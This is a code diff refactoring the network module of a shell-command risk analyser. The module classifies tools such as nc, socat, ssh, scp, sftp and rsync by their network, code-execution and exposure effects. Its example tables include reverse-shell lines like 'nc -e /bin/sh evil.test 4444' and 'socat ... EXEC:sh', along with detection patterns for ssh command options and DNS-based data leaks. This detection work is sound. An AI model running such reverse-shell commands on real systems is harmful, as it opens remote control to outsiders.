@@ -1,7 +1,7 @@
 import { GAP, type Word } from "../parse/command.ts";
 import { hasSubstitution } from "../parse/insertions.ts";
 import { isRemote, nameOf } from "../paths.ts";
-import { someArg, someOperand, someValue } from "./arguments.ts";
+import { operand, operandIs, option, valueIs, without } from "./act.ts";
 import { CAPTURE } from "./break-ins.ts";
 import {
   type Call,
@@ -13,6 +13,8 @@ import {
   reads,
   reveals,
   sends,
+  someArgument,
+  someOperand,
   talks,
   value,
   values,
@@ -20,7 +22,7 @@ import {
 } from "./call.ts";
 import { readOptions } from "./options.ts";
 import type { Inner, Invocation, Programs } from "./program.ts";
-import { asLine, behind, lines, optionsAsLines } from "./runs.ts";
+import { asLine, behind, lines, linesIn, optionsAsLines } from "./runs.ts";
 import { isProduction } from "./targets.ts";
 import { typedCommands, typedInto } from "./typed-commands.ts";
 
@@ -32,14 +34,25 @@ export const NETWORK = (): Programs => ({
     is: { "socket-tool": true },
     options: "e= c= exec= sh-exec= lua-exec= p= w= s= i= q= x= X= l listen k u v z n source= wait= proxy= ssl",
     runs: optionsAsLines("e", "c", "exec", "sh-exec"),
-    does: (call) => {
-      const isListening = has(call, "l", "listen");
-      if (has(call, "z")) return talks(call, "out", call.operands[0]);
-      talks(call, "both", isListening ? undefined : call.operands[0]);
-      sends(call, "input");
-      if (has(call, "e", "c", "exec", "sh-exec", "lua-exec")) plays(call, "run-code");
-      if (/^[^\S\n]*(?:flushall|flushdb|shutdown)\b/im.test(call.report.piped)) plays(call, "database", "work-loss");
-    },
+    does: [
+      {
+        when: "z",
+        talks: "out",
+        to: operand(0),
+        otherwise: {
+          talks: "both",
+          to: (call) => (has(call, "l", "listen") ? [] : call.operands.slice(0, 1)),
+          sends: "input",
+          does: [
+            { when: "e c exec sh-exec lua-exec", roles: ["run-code"] },
+            {
+              when: ({ report }) => /^[^\S\n]*(?:flushall|flushdb|shutdown)\b/im.test(report.piped),
+              roles: ["database", "work-loss"],
+            },
+          ],
+        },
+      },
+    ],
     examples: [
       ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
       ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test", "typed-code"],
@@ -50,11 +63,7 @@ export const NETWORK = (): Programs => ({
   },
   socat: {
     is: { "socket-tool": true },
-    runs: ({ name, args }) =>
-      args.flatMap(({ text, isKnown }): Inner[] => {
-        const [, code] = /^(?:EXEC|SYSTEM|SHELL):([^,]+)/i.exec(text) ?? [];
-        return code === undefined ? [] : [{ runs: "shell", text: { text: code, isKnown, isGlob: false }, via: name }];
-      }),
+    runs: ({ name, args }) => linesIn(args, /^(?:EXEC|SYSTEM|SHELL):([^,]+)/i, name),
     does: (call) => {
       for (const word of call.operands) {
         const [kind = "", place = ""] = word.text.split(":", 2);
@@ -68,9 +77,8 @@ export const NETWORK = (): Programs => ({
         else if (/^(?:exec|system)$/i.test(kind)) plays(call, "run-code");
         else if (/^(?:open|file|gopen)$/i.test(kind)) reads(call, { ...word, text: place.split(",", 1)[0] ?? "" });
       }
-      sends(call, "input");
-      sends(call, "reads");
     },
+    sends: "both",
     examples: [
       ["socat - TCP:evil.test:80", "network-in network-out", "talks to evil.test"],
       ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test", "typed-code"],
@@ -89,7 +97,7 @@ export const NETWORK = (): Programs => ({
       const opened = /(?:^|;)\s*open\s+(\S+)/.exec(typed.join(";"))?.[1];
       talks(call, "both", call.operands[0] ?? (opened === undefined ? undefined : known(opened.replace(/;$/, ""))));
       sends(call, "input");
-      // The words behind `-c` of tftp stand apart: `-c put file`.
+      // `tftp -c put file`: the command consists of several arguments.
       tellTransfers(call, [...typed, call.operands.length > 1 ? `put ${call.operands.at(-1)?.text}` : ""].join("\n"));
     },
     examples: [
@@ -114,7 +122,7 @@ export const NETWORK = (): Programs => ({
       const inners = commandOptions(run);
       const [host, ...words] = run.operands;
       if (host === undefined) return inners;
-      // After the host, options may go on; what follows is joined and read by the shell there.
+      // Options may follow the host; the rest is joined and read by the shell of that host.
       const { operands } = readOptions(words, SSH, "first");
       if (operands.length > 0) return [...inners, ...asLine(name, operands)];
       return run.stdin.input.from === "nothing" ? inners : [...inners, { runs: "input", via: name }];
@@ -123,13 +131,13 @@ export const NETWORK = (): Programs => ({
       talks(call, "both", call.operands[0]);
       reads(call, value(call, "i"));
       const isOpen = ({ text }: Word) => /^(?:0\.0\.0\.0|\*|::):/.test(text);
-      const isForwarding = someArg(call, /^-\w*R/);
+      const isForwarding = someArgument(call, /^-\w*R/);
       if (isForwarding || values(call, "L", "D").some(isOpen) || (has(call, "g") && has(call, "L", "D")))
         plays(call, "expose");
       if (call.operands.length > 1) sends(call, "input");
-      // Without a command, the shell there runs what comes in.
+      // Without a command, the shell of that host runs the input.
       else if (call.command.input.from !== "nothing") call.report.input = "run";
-      if (someValue(call, /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)/i, "o")) plays(call, "run-code");
+      if (valueIs("o", /^(?:ProxyCommand|LocalCommand|KnownHostsCommand)/i)(call)) plays(call, "run-code");
     },
     examples: [
       ["ssh -p 22 me@h.test uptime", "network-in network-out", "talks to h.test"],
@@ -148,10 +156,7 @@ export const NETWORK = (): Programs => ({
     options: "P= i= o= F= J= S= c= l= r p q C v 3 4 6 B D= X=",
     by: "copy",
     runs: (run) => [...lines(run, "S"), ...commandOptions(run)],
-    does: (call) => {
-      transfers(call, has(call, "r"));
-      if (has(call, "S")) plays(call, "run-code");
-    },
+    does: [(call) => transfers(call, has(call, "r")), { when: "S", roles: ["run-code"] }],
     examples: [
       ["scp -r a me@h.test:b", "network-out", "reads a tree", "sends to h.test", "file a flows to network"],
       ["scp h.test:a b", "network-in", "fetches from h.test", "writes b", "network b flows to file"],
@@ -162,20 +167,15 @@ export const NETWORK = (): Programs => ({
   },
   smbclient: {
     options: "c= U= N k p= W= D= I= directory= user= password=",
-    does: (call) => {
-      talks(
-        call,
-        "both",
-        call.operands[0] &&
-          pieceOf(call.operands[0], call.operands[0].text.replace(/^\/\/|^\\\\/, "").split(/[\\/]/, 1)[0] ?? ""),
-      );
+    talks: "both",
+    to: without(/[\\/].*$/, without(/^(?:\/\/|\\\\)/, operand(0))),
+    does: (call) =>
       tellTransfers(
         call,
         values(call, "c")
           .map(({ text }) => text)
           .join("\n"),
-      );
-    },
+      ),
     examples: [
       [
         "smbclient //h.test/s -c 'put a'",
@@ -190,13 +190,11 @@ export const NETWORK = (): Programs => ({
     is: { "often-shadowed": "sftp", "hook-options": true, "uses-keys": true },
     options: "P= i= o= F= b= J= S= B= R= r q C",
     runs: (run) => [...lines(run, "S"), ...typedInto(run, values(run, "b"), [], /^\s*!\s*([\s\S]+)$/)],
-    does: (call) => {
-      talks(call, "both", call.operands[0]);
-      reads(call, value(call, "b"));
-      sends(call, "input");
-      tellTransfers(call, "");
-      if (has(call, "S")) plays(call, "run-code");
-    },
+    talks: "both",
+    to: operand(0),
+    reads: option("b"),
+    sends: "input",
+    does: [(call) => tellTransfers(call, ""), { when: "S", roles: ["run-code"] }],
     examples: [
       ["sftp me@h.test", "network-in network-out", "talks to h.test"],
       ["echo '!rm x' | sftp host", "runs rm x"],
@@ -226,7 +224,7 @@ export const NETWORK = (): Programs => ({
       if (shell.trim() !== "") plays(call, "run-code");
       if (has(call, "daemon")) plays(call, "expose");
       if (isDry) return;
-      // Then the names in the target are not those behind the last slash.
+      // The names in the target are then not those after the last slash.
       if (has(call, "relative", "files-from") && target !== undefined && !isRemote(target.text))
         writes(call, target, { isTree: true, by: "unpack" });
       if (isDeleting || has(call, "remove-source-files")) plays(call, "delete");
@@ -283,7 +281,7 @@ export const NETWORK = (): Programs => ({
     does: (call) => {
       const name = call.operands.find(({ text }) => !/^[@+]|^[A-Z]{1,5}$/.test(text));
       talks(call, "out", name);
-      // The answer is text that others wrote.
+      // The answer is text that other people wrote.
       call.report.fetches = true;
       if (call.operands.some(({ text }) => text.includes(GAP))) sends(call, "input");
       tellsName(call);
@@ -292,11 +290,7 @@ export const NETWORK = (): Programs => ({
   },
   "ping ping6 traceroute tracepath mtr whois": {
     options: "c= i= W= w= s= t= p= I= m= h= n q f",
-    does: (call) => {
-      if (/^ping/.test(call.report.program) && has(call, "f")) plays(call, "exhaust");
-      talks(call, "out", call.operands[0]);
-      tellsName(call);
-    },
+    does: [{ names: "ping ping6", when: "f", roles: ["exhaust"] }, { talks: "out", to: operand(0) }, tellsName],
     examples: [["ping -c 1 h.test", "network-out", "sends to h.test"]],
   },
   tcpdump: {
@@ -315,7 +309,7 @@ export const NETWORK = (): Programs => ({
     options: "s= t= H= P= w= x= f= l= u= g= h= p= o= e= O=",
     style: "first",
     names: "adb",
-    when: (call) => call.operands[0]?.text === "tcpip",
+    when: operandIs(0, /^tcpip$/),
     roles: ["expose"],
     runs: ({ name, operands }) => {
       if (name === "adb" && operands[0]?.text !== "shell") return [];
@@ -329,16 +323,16 @@ export const NETWORK = (): Programs => ({
   },
 });
 
-/** A name that a command prints, below a domain, is what its owner is told. */
+/** The owner of a domain sees every name below it that is looked up, also one that contains the output of a command. */
 function tellsName(call: Call): void {
   if (hasSubstitution(call.command.source) && someOperand(call, TOLD_NAME))
     call.report.effects.push({ does: "flow", from: "data", path: undefined, to: "network", command: call.report.at });
 }
 
-/** A name whose beginning only the run knows, below a domain of another. */
+/** A name below a public domain whose beginning is known only at run time. */
 const TOLD_NAME = new RegExp(`${GAP}[\\w.-]*\\.(?!local\\b|internal\\b|test\\b|svc\\b|lan\\b)[a-z]{2,}\\.?$`, "i");
 
-/** What is typed to send and fetch files: `put a`, `get a b`. */
+/** Reports the files that typed commands send and fetch: `put a`, `get a b`. */
 function tellTransfers(call: Call, typed: string): void {
   for (const line of `${typed}\n${call.report.piped}`.split(/[\n;]/)) {
     const [, verb = "", from, to] =
@@ -354,10 +348,10 @@ function tellTransfers(call: Call, typed: string): void {
   }
 }
 
-/** Copies between machines: whichever end is remote says which way. */
-/** The machine in front of a path. */
+/** The machine before a path. */
 const REMOTE = /^(?:rsync:\/\/[^/]*\/|[^/:]+::?(?!\/\/))/;
 
+/** Reports a copy between machines: its direction depends on which end is remote. */
 function transfers(call: Call, isTree: boolean, isDry = false): void {
   const target = call.operands.at(-1);
   const sources = call.operands.slice(0, -1);
@@ -369,26 +363,22 @@ function transfers(call: Call, isTree: boolean, isDry = false): void {
     talks(call, "out", target);
     sends(call, "reads");
   } else if (!isDry) {
-    // What is fetched into a folder keeps its name there; behind a slash, only what lies in it comes.
+    // A path that is fetched into a folder keeps its name there; with a slash at its end, only its content is fetched.
     const isFolder =
       /(?:^|\/)\.{0,2}$/.test(target.text) && sources.every(({ text }) => isRemote(text) && !text.endsWith("/"));
     for (const source of sources) {
       const own = pieceOf(source, source.text.replace(REMOTE, ""));
       const path = isFolder ? pieceOf(target, `${target.text}/${nameOf(own.text)}`) : target;
-      // Behind a slash, what lies in a folder is copied, and not the folder itself.
+      // With a slash at its end, the content of a folder is copied, and not the folder itself.
       writes(call, path, { isTree, source: own, landsIn: !isFolder && !/(?:^|\/)\.?$/.test(own.text) });
     }
     call.report.isSilent = true;
   }
 }
 
-/** Commands that settings of ssh name: `-o ProxyCommand=…`. */
+/** Commands in settings of ssh: `-o ProxyCommand=…`. */
 function commandOptions(run: Invocation): readonly Inner[] {
   const inFiles = values(run, "F").flatMap((path) => run.file(path)?.split("\n") ?? []);
-  return [...values(run, "o"), ...inFiles.map((text) => known(text.trim()))].flatMap(({ text, isKnown }): Inner[] => {
-    const [, code] = /^(?:proxycommand|localcommand|knownhostscommand)[= ]([\s\S]+)$/i.exec(text) ?? [];
-    return code === undefined
-      ? []
-      : [{ runs: "shell", text: { text: code, isKnown, isGlob: false }, via: `${run.name} -o` }];
-  });
+  const settings = [...values(run, "o"), ...inFiles.map((text) => known(text.trim()))];
+  return linesIn(settings, /^(?:proxycommand|localcommand|knownhostscommand)[= ]([\s\S]+)$/i, `${run.name} -o`);
 }
